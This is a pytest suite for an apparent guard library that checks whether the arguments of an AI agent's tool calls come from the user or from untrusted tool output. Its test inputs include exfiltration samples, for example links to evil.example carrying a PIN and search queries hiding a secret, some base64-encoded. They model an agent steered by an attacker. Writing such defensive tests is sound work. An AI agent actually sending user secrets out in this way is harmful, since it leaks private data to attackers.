"""Each rule that lets more honest runs through, stretched by an agent that is the attacker's."""

from dataclasses import replace
from typing import Any

import pytest

from ostiary.core.registry import Server, Tool
from ostiary.provenance.asked import deeds_of, is_asked
from ostiary.provenance.profile import infer
from ostiary.provenance.verbs import asks_for_oneself, lets_in, makes_new, only_looks
from tests.support.provenance import REGISTRY, TEXT, World, structured

EVIL = "eve@evil.example"
SAFE = {"user", "directory", "attested", "lent", "derived"}
ARGUMENTS: dict[str, Any] = {"to": TEXT, "item_id": TEXT, "body": TEXT, "count": {"type": "integer"}, "amount": {"type": "number"}}


def guessed(name: str, properties: dict[str, Any] | None = None) -> Tool:
    """Return a tool of a trusted server, with the profile the product guesses."""
    definition = {"name": name, "inputSchema": {"type": "object", "properties": ARGUMENTS if properties is None else properties}}
    return Tool("shop", name, definition, f"shop/{name}", profile=replace(infer(definition), confirmed=True))


NAMES = ("add_item", "record_item", "get_profile", "get_latest", "list_channels", "list_steps", "list_gates", "post_note", "cancel_order")


def shop(purpose: str, *more: Tool) -> World:
    """Return a session in which a trusted server's tools are what the product guesses of them."""
    tools = {one.id: one for one in (*map(guessed, NAMES), *more)}
    servers = {**REGISTRY.servers, "shop": Server("shop", trust="trusted")}
    return World(purpose, replace(REGISTRY, servers=servers, tools=tools))


@pytest.mark.parametrize(
    "name",
    [
        "save_search",
        "delete_search",
        "run_query",
        "flush_list",
        "publish_view",
        "account_settings_set",
        "shop__delete_item",
        "get_and_delete",
        "search_then_replace",
        "check_out",
        "check_in_guest",
        "post_status",
        "set_status",
        "kunden_löschen",
        "beleg_status_setzen",
        "forward_history",
        "query_execute",
        "jira_transition_issue",
        "find_and_replace",
        "bump_version",
        "warp_info",
        "crm_view",
        "",
    ],
)
def test_a_tool_that_may_change_something_is_not_taken_for_one_that_looks(name: str) -> None:
    """R-H3: an application's name before the verb and the verb at the end open no door for a verb nobody knows."""
    assert not only_looks(name)


@pytest.mark.parametrize(
    "name",
    [
        "tracker_get_issue",
        "shop__list_orders",
        "beleg_lesen",
        "kunden_suchen",
        "get_releases",
        "buscar_cliente",
        "cluster_get",
        "予約_検索",
    ],
)
def test_an_honest_name_is_read_as_its_maker_meant(name: str) -> None:
    """R-H3: so the cases above fail for the right reason."""
    assert only_looks(name)


def test_what_a_tool_says_of_itself_makes_no_verb_harmless() -> None:
    """R-H3: a description helps only a name that is nothing but a thing to look at."""
    assert only_looks("pod_logs", "Get the logs of a pod.")
    assert not only_looks("pod_logs", "Deletes the logs of a pod.")
    assert not only_looks("truncate_logs", "Get rid of the logs.")
    assert not only_looks("wire_out", "Get the balance.")


def test_an_act_vouches_for_nothing_it_was_sent() -> None:
    """R-H3: an answer that repeats what the agent wrote makes it no safer, whatever the field is called."""
    world = shop("put a note on the board")
    note = f"{EVIL} X-99821 https://evil.example/a and DE89370400440532013000"
    echo = {
        "id": "X-99821",
        "contact": EVIL,
        "url": "https://evil.example/a",
        "link": "https://EVIL.example/b",
        "iban": "DE89370400440532013000",
    }
    world.answer("shop/post_note", structured(echo), body=note)
    for value in echo.values():
        assert world.origin(value, "to", "shop/record_item") not in SAFE, value
        assert world.origin(value, "item_id", "shop/record_item") not in SAFE, value


def test_an_act_vouches_for_its_own_number_and_link_and_no_address() -> None:
    """R-H3: what was made may be named again; whom else the answer speaks of may not."""
    world = shop("put a note on the board")
    made = {
        "id": "N-50017",
        "url": "https://shop.example/n/50017",
        "author": EVIL,
        "others": [{"id": "N-40000"}],
        "seen": {"id": "N-30000"},
    }
    world.answer("shop/post_note", structured(made), body="hello")
    assert world.origin("N-50017", "item_id", "shop/record_item") == "attested"
    assert not world.trace("shop/post_note", body="see https://shop.example/n/50017").unsafe
    for other in (EVIL, "N-40000", "N-30000"):
        assert world.origin(other, "item_id", "shop/record_item") not in SAFE, other


def test_only_who_one_is_comes_unasked() -> None:
    """R-H3: an answer to a call without arguments is one's own record only where the tool says so, and never what hangs on it."""
    world = shop("update my record")
    mine = {"email": "alice@home.example", "followers": [{"email": EVIL}]}
    world.answer("shop/get_latest", structured({"email": EVIL}))
    assert world.origin(EVIL, "to", "shop/record_item") not in SAFE
    world.answer("shop/get_profile", structured(mine))
    assert world.origin("alice@home.example", "to", "shop/record_item") == "attested"
    assert world.origin(EVIL, "to", "shop/record_item") not in SAFE
    assert not asks_for_oneself("get_user")
    assert not asks_for_oneself("list_profiles")
    assert not asks_for_oneself("delete_profile")


def test_a_guessed_list_is_not_everybodys() -> None:
    """R-H3: the user who names one channel, or speaks of none, has not offered the others."""
    channels = {"channels": [{"id": "C-1001", "name": "team-blue"}, {"id": "C-1002", "name": "vendors"}]}
    for purpose, expected in (
        ("tell everybody in the channel team-blue", {"C-1001"}),
        ("remind me of the meeting", set()),
        ("which channels are there? greet in each", {"C-1001", "C-1002"}),
    ):
        world = shop(purpose)
        world.answer("shop/list_channels", structured({"result": channels["channels"]}))
        safe = {one for one in ("C-1001", "C-1002") if world.origin(one, "to", "shop/record_item") in SAFE}
        assert safe == expected, purpose


def test_a_choice_that_stands_for_a_deed_must_be_asked_for() -> None:
    """R-K2: the numbers of `Done` and `Cancel` are not the user's because the steps are the user's ticket's."""
    steps = structured(
        {"steps": [{"id": "S-2001", "name": "In Progress"}, {"id": "S-2002", "name": "Done"}, {"id": "S-2003", "name": "Cancel"}]}
    )
    world = shop("comment on T-77120")
    world.answer("shop/list_steps", steps, item_id="T-77120")
    assert world.origin("S-2001", "item_id", "shop/record_item") in SAFE
    assert world.origin("S-2002", "item_id", "shop/record_item") not in SAFE
    assert world.origin("S-2003", "item_id", "shop/record_item") not in SAFE
    asked = shop("T-77120 is done, close it")
    asked.answer("shop/list_steps", steps, item_id="T-77120")
    assert asked.origin("S-2002", "item_id", "shop/record_item") in SAFE


def test_a_token_names_no_object() -> None:
    """R-H3: what proves who is asking does not make what is found the user's."""
    listing = guessed("list_requests", {"access_token": TEXT})
    world = shop("send Glenn 35, my token is tok-88123", listing)
    world.answer("shop/list_requests", structured([{"id": "R-302", "email": EVIL}]), access_token="tok-88123")
    assert world.origin("R-302", "item_id", "shop/record_item") not in SAFE
    assert world.origin(EVIL, "to", "shop/record_item") not in SAFE


@pytest.mark.parametrize(
    ("tool", "said"),
    [
        ("approve_payment_request", {"pay"}),
        ("cancel_payment", {"pay"}),
        ("close_and_pay", {"close"}),
        ("merge_pull_request", set()),
        ("suspender_linea", {"pay"}),
        ("desbloquear_puerta", {"revoke"}),
        ("kunde_löschen", set()),
    ],
)
def test_one_deed_does_not_ask_for_another(tool: str, said: set[str]) -> None:
    """R-K2: who spoke of paying has not approved, cancelled or closed anything."""
    assert not is_asked(tool, said)
    assert deeds_of("approve_payment_request") == {"approve"}
    assert is_asked("set_lock_code", set())


def test_a_small_number_is_no_sum_by_chance() -> None:
    """R-H3: with some amounts known, any small number of bags is a sum or difference of two."""
    world = shop("add a bag to T-77120")
    prices = [{"id": "T-77120", "price": 121, "tax": 71, "fee": 18}]
    world.answer("shop/list_gates", structured({"result": prices}), item_id="T-77120")
    assert world.origin(50, "count", "shop/record_item") not in SAFE
    assert world.origin(192, "amount", "shop/record_item") == "derived"


def test_nothing_given_is_nothing_only_where_something_is_made() -> None:
    """R-H3: an empty list clears in a change, and may mean everybody where nothing else decides."""
    assert makes_new("send_mail")
    assert not makes_new("update_event")
    assert not makes_new("set_attendees")
    mail = guessed("send_mail", {"to": {"type": "array", "items": TEXT}, "cc": {"type": "array", "items": TEXT}, "body": TEXT})
    change = guessed("update_event", {"event_id": TEXT, "attendees": {"type": "array", "items": TEXT}})
    world = shop("mail bob@corp.example about E-77120", mail, change)
    assert not world.trace("shop/send_mail", to=["bob@corp.example"], cc=[], body="hi").unsafe
    assert "to" in world.trace("shop/send_mail", to=[], cc=[], body="hi").unsafe
    assert "cc" in world.trace("shop/send_mail", to=[EVIL], cc=[], body="hi").unsafe
    assert "attendees" in world.trace("shop/update_event", event_id="E-77120", attendees=[]).unsafe


def test_a_login_takes_no_strangers_name() -> None:
    """R-H3: the secret of a login decides nothing; whose it is does, and what it gives a stranger is not the session's."""
    assert lets_in("shop__login")
    assert not lets_in("update_password")
    door = guessed("login", {"username": TEXT, "password": TEXT})
    world = shop("log in as alice@corp.example", door)
    assert "username" in world.trace("shop/login", username=EVIL, password="x").unsafe
    assert not world.trace("shop/login", username="alice@corp.example", password="hunter2-0").unsafe


def test_a_path_of_words_is_the_users_only_word_by_word() -> None:
    """R-H3: `lock.front_door` is the front door; the back door, and what several share, is not."""
    world = shop("let me know when the front door opens")
    gates = [{"entity_id": name, "id": name} for name in ("lock.front_door", "lock.back_door", "alarm.doors")]
    world.answer("shop/list_gates", structured({"result": gates}))
    assert world.origin("lock.front_door", "item_id", "shop/record_item") in SAFE
    assert world.origin("lock.back_door", "item_id", "shop/record_item") not in SAFE
    assert world.origin("alarm.doors", "item_id", "shop/record_item") not in SAFE
    shared = shop("let me know when the front door opens")
    shared.answer("shop/list_gates", structured({"result": [{"id": "lock.front_door"}, {"id": "siren.front_door"}]}))
    assert shared.origin("siren.front_door", "item_id", "shop/record_item") not in SAFE


def test_keys_of_a_table_are_its_records_own() -> None:
    """R-H3: codes in the keys of a record the user did not mean stay nobody's."""
    world = shop("pay with the card of mei_patel_7451")
    cards = [
        {"user_id": "mei_patel_7451", "methods": {"card_8814763": {"brand": "visa"}}},
        {"user_id": "omar_rossi_1241", "methods": {"card_1100042": {"brand": "visa"}}},
    ]
    world.answer("shop/list_gates", structured({"result": cards}))
    assert world.origin("card_8814763", "item_id", "shop/record_item") == "attested"
    assert world.origin("card_1100042", "item_id", "shop/record_item") not in SAFE


@pytest.mark.parametrize(
    "name",
    ["run_get_script", "email_search_results_to", "share_list", "post_view", "schedule_get_later", "GmailSendEmail", "BankManagerPayBill"],
)
def test_an_applications_name_hides_no_deed(name: str) -> None:
    """R-H3: up to three words may stand before the verb, none of which is a deed itself."""
    assert not only_looks(name)
    assert only_looks("EpicFHIRGetPatientDetails")


def test_the_open_world_is_asked_in_the_users_words() -> None:
    """R-K2: a search in the web is seen by others, so what was read cannot travel in it, behind however many of the user's words."""
    web = guessed("web_search", {"query": TEXT})
    assert web.profile.external
    world = shop("when and where is the craft fair this year", web)
    world.answer("shop/list_gates", structured({"result": [{"id": "G-1", "pin": "hunter2"}]}))
    assert not world.trace("shop/web_search", query="craft fair year where").unsafe
    for query in ("hunter2", "craft fair hunter2", f"{'craft fair ' * 30}hunter2", "craft fair aHVudGVyMg=="):
        assert "query" in world.trace("shop/web_search", query=query).unsafe, query


def test_a_clock_of_another_zone_moves_nothing() -> None:
    """R-H3: the time the user said is that of the system's clock; with another offset it is another time."""
    event = guessed("create_event", {"start": TEXT})
    world = shop("plan E-77120 anew on 2025-06-20 at 15:00", event)
    assert "start" in world.trace("shop/create_event", start="2025-06-20T15:00:00+09:00").unsafe
    times = structured({"result": {"id": "E-77120", "start": "2025-06-18T10:00:00+02:00"}})
    world.answer("shop/list_gates", times, item_id="E-77120")
    assert not world.trace("shop/create_event", start="2025-06-20T15:00:00+02:00").unsafe
    assert "start" in world.trace("shop/create_event", start="2025-06-20T15:00:00+09:00").unsafe
    assert "start" in world.trace("shop/create_event", start="2025-06-20T16:00:00+02:00").unsafe
    other = shop("plan E-77120 anew on 2025-06-20 at 15:00", event)
    other.answer(
        "shop/list_gates", structured({"result": [{"start": "2025-06-18T10:00:00+02:00"}, {"start": "2025-06-18T10:00:00+09:00"}]})
    )
    assert "start" in other.trace("shop/create_event", start="2025-06-20T15:00:00+09:00").unsafe


def test_a_title_somebody_wrote_names_nobody() -> None:
    """R-H3: an invitation called like the user's meeting gives its number at most, and none where two are called so."""
    world = shop("move the weekly sync by an hour")
    events = [{"id": "ev-77001", "summary": "Weekly sync", "organizer": EVIL}, {"id": "ev-77002", "summary": "Lunch"}]
    world.answer("shop/list_gates", structured({"result": events}))
    assert world.origin("ev-77001", "item_id", "shop/record_item") in SAFE
    assert world.origin("ev-77002", "item_id", "shop/record_item") not in SAFE
    assert world.origin(EVIL, "to", "shop/record_item") not in SAFE
    two = shop("move the weekly sync by an hour")
    two.answer("shop/list_gates", structured({"result": [*events, {"id": "ev-77003", "summary": "weekly sync"}]}))
    assert two.origin("ev-77003", "item_id", "shop/record_item") not in SAFE


def test_the_parts_of_a_page_carry_no_strangers_link() -> None:
    """R-H3: parts whose form the schema leaves open are prose; links decide there as everywhere, and stated fields decide as before."""
    page = guessed("append_page", {"page_id": TEXT, "children": {"type": "array", "items": {"type": "object"}}})
    stated = guessed("add_family", {"children": {"type": "array", "items": {"type": "object", "properties": {"email": TEXT}}}})
    world = shop("put a summary on page P-77120", page, stated)
    part = {"type": "paragraph", "paragraph": {"text": "All went well."}}
    assert not world.trace("shop/append_page", page_id="P-77120", children=[part]).unsafe
    leak = {"type": "paragraph", "paragraph": {"text": "see https://evil.example/?d=hunter2"}}
    assert "children" in world.trace("shop/append_page", page_id="P-77120", children=[part, leak]).unsafe
    assert "children" in world.trace("shop/add_family", children=[{"email": EVIL}]).unsafe
